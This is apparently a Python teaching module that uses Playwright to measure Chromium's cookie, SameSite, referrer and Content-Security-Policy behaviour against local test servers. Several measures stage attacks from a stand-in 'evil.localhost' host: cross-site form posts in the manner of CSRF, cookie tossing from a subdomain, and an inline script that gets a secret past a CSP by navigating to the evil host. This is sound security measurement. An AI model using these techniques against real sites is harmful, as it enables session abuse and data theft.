"""Measures what a browser does; `python -m tests.demo.teaching.facts` writes it down.

Each fact is a function that gives what was seen as a short text, the same one every time.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Mapping
from datetime import UTC, datetime

from playwright.sync_api import Browser, Page, sync_playwright

from demo.browserfacts import FILE

from .sites import Site

# Names under .test lead nowhere but here: a plain connection that is not to this machine's names.
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--host-resolver-rules=MAP *.test 127.0.0.1",
]
SHOP, EVIL, TOSS = "shop.localhost", "evil.localhost", "evil.shop.localhost"
Measure = Callable[[Page, Site, Site], str]


def secure_on_loopback(page: Page, site: Site, _: Site) -> str:
    site.cookie("/set", "__Host-a=1; Path=/; Secure")
    kept = []
    for host in ("127.0.0.1", "localhost", SHOP):
        page.goto(site.at(host, "/set"))
        page.goto(site.at(host, "/echo"))
        kept += [host] if site.sent("/echo") == "__Host-a=1" else []
    return f"stored and sent on {', '.join(kept) or 'none'}"


def secure_elsewhere(page: Page, site: Site, _: Site) -> str:
    site.page("/set", "", ("Set-Cookie", "a=1; Secure"), ("Set-Cookie", "b=2"))
    page.goto(site.at("shop.test", "/set"))
    page.goto(site.at("shop.test", "/echo"))
    return f"sent: {site.sent('/echo')}"


def ports(page: Page, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1; HttpOnly; SameSite=Strict")
    page.goto(site.at("127.0.0.1", "/set"))
    page.goto(other.at("127.0.0.1", "/echo"))
    return f"sent to another port: {other.sent('/echo') or 'nothing'}"


def names_under_localhost(page: Page, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1; SameSite=Lax")
    page.goto(site.at(SHOP, "/set"))
    _post(page, site, other)
    asked = site.last("/change")
    assert asked is not None
    return f"{asked.site}; sent with the form: {asked.cookie or 'nothing'}"


def tossed(page: Page, site: Site, _: Site) -> str:
    site.page(
        "/toss",
        "",
        ("Set-Cookie", f"a=planted; Domain={SHOP}; Path=/"),
        ("Set-Cookie", f"__Host-b=planted; Domain={SHOP}; Path=/; Secure"),
    )
    page.goto(site.at(TOSS, "/toss"))
    page.goto(site.at(SHOP, "/echo"))
    return f"sent to {SHOP}: {site.sent('/echo') or 'nothing'}"


def without_samesite(page: Page, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1")
    page.goto(site.at(SHOP, "/set"))
    _post(page, site, other)
    return f"within two minutes the form carries: {site.sent('/change') or 'nothing'}"


def cross_site_fetch(page: Page, site: Site, other: Site) -> str:
    site.page("/set", "", ("Set-Cookie", "a=1"), ("Set-Cookie", "b=2; SameSite=Lax"))
    page.goto(site.at(SHOP, "/set"))
    page.goto(other.at(EVIL, "/page"))
    page.evaluate(
        "url => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include'})",
        site.at(SHOP, "/change"),
    )
    return f"fetch carries: {site.sent('/change') or 'nothing'}"


def referrer(page: Page, site: Site, other: Site) -> str:
    links = f"<a id=out href='{other.at(EVIL, '/elsewhere')}'>x</a><a id=in href='/inside'>y</a>"
    site.page("/secret", links)
    for link, path, where in (("#out", "/elsewhere", other), ("#in", "/inside", site)):
        page.goto(site.at(SHOP, "/secret?session=abc"))
        page.click(link)
        page.wait_for_url(f"**{path}")
        assert where.last(path) is not None
    out, inside = other.last("/elsewhere"), site.last("/inside")
    assert out is not None and inside is not None  # noqa: PT018
    told = "the origin alone" if out.referer == site.at(SHOP, "/") else out.referer
    return f"another site is told {told}; the own site " + (
        "the whole address" if inside.referer.endswith("?session=abc") else inside.referer
    )


def http_only(page: Page, site: Site, _: Site) -> str:
    site.cookie("/set", "a=1; HttpOnly")
    page.goto(site.at(SHOP, "/set"))
    page.goto(site.at(SHOP, "/page"))
    read = page.evaluate("document.cookie")
    page.evaluate("fetch('/change', {method: 'POST'})")
    return f"a script reads {read or 'nothing'}; its request carries {site.sent('/change')}"


def oversized(page: Page, site: Site, _: Site) -> str:
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    sizes = []
    for size in (4096, 4097):
        site.cookie("/old", "a=old")
        site.cookie("/set", f"a={'x' * (size - 1)}")
        page.goto(site.at(SHOP, "/old"))
        page.goto(site.at(SHOP, "/set"))
        page.goto(site.at(SHOP, "/echo"))
        sizes.append(
            f"{size}: {'kept' if len(site.sent('/echo')) == size + 1 else 'the old one stays'}"
        )
    heard = said[0] if said else "nothing"
    return f"name and value of {', '.join(sizes)}; said on the console: {heard}"


def clear_site_data(page: Page, site: Site, _: Site) -> str:
    site.cookie("/set", "a=1; HttpOnly")
    site.page("/clear", "", ("Clear-Site-Data", '"cookies"'))
    page.goto(site.at("127.0.0.1", "/set"))
    page.goto(site.at("127.0.0.1", "/clear"))
    page.goto(site.at("127.0.0.1", "/echo"))
    return f"afterwards sent: {site.sent('/echo') or 'nothing'}"


def past_a_policy(page: Page, site: Site, other: Site) -> str:
    script = (
        f"fetch('{other.at(EVIL, '/fetched')}', {{mode: 'no-cors'}}).catch(() => 0)"
        f".finally(() => location = '{other.at(EVIL, '/taken')}?secret')"
    )
    policy = "default-src 'none'; script-src 'unsafe-inline'"
    site.page("/page", f"<script>{script}</script>", ("Content-Security-Policy", policy))
    page.goto(site.at(SHOP, "/page"))
    page.wait_for_url("**/taken?secret")
    stopped = "stopped" if other.last("/fetched") is None else "let through"
    return f"fetch is {stopped}; location= {'gets out' if other.last('/taken') else 'is stopped'}"


MEASURES: Mapping[str, Measure] = {
    "secure-on-loopback": secure_on_loopback,
    "secure-elsewhere": secure_elsewhere,
    "ports": ports,
    "names-under-localhost": names_under_localhost,
    "tossed": tossed,
    "without-samesite": without_samesite,
    "cross-site-fetch": cross_site_fetch,
    "referrer": referrer,
    "http-only": http_only,
    "oversized": oversized,
    "clear-site-data": clear_site_data,
    "past-a-policy": past_a_policy,
}


def measure(browser: Browser, name: str) -> str:
    """Measure one fact in a window of its own, against servers of its own."""
    context = browser.new_context()
    try:
        with Site() as site, Site() as other:
            return MEASURES[name](context.new_page(), site, other)
    finally:
        context.close()


def _post(page: Page, site: Site, other: Site) -> None:
    """Have a page of another site send a form, as in cross-site request forgery."""
    form = f"<form method=post action='{site.at(SHOP, '/change')}'><button>go</button></form>"
    other.page("/form", form)
    page.goto(other.at(EVIL, "/form"))
    page.click("button")
    page.wait_for_url("**/change")


def main() -> None:
    """Measure every fact in Chromium and write what was seen into demo/browserfacts.json."""
    known = json.loads(FILE.read_text())
    path = shutil.which("chromium")
    assert path is not None, "no chromium on the path: apt-get install chromium"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=FLAGS)
        seen = {name: measure(browser, name) for name in MEASURES}
        known["engines"]["chromium"] = {
            "version": f"Chromium {browser.version}",
            "date": datetime.now(UTC).date().isoformat(),
            "seen": seen,
        }
        browser.close()
    FILE.write_text(json.dumps(known, indent=2) + "\n")


if __name__ == "__main__":
    main()
